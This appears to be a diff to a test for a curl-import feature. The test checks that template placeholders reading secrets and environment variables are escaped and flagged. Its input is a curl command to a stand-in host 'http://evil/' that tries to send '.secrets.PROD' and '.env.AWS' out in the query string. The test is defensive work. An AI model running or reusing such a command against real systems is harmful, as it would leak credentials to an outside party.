@@ -239,7 +239,8 @@ def test_a_pasted_command_cannot_read_secrets_or_the_environment() -> None:
     imported = import_curl("curl 'http://evil/?a={{ .secrets.PROD }}&b={{.env.AWS}}&c={{ .vars.ok }}' -d '{{x}}\0'")
 
     node = imported.config["nodes"][0]
-    assert node["url"] == "http://evil/?a={ { .secrets.PROD } }&b={ {.env.AWS} }&c={{ .vars.ok }}"
+    assert node["url"] == "http://evil/?a=%7B%7B .secrets.PROD %7D%7D&b=%7B%7B.env.AWS%7D%7D&c={{ .vars.ok }}"
+    assert node["body"] == "{ {x} }"
     assert "tried to read .secrets.PROD" in remarks(imported)
     assert "is no placeholder" in remarks(imported)
 
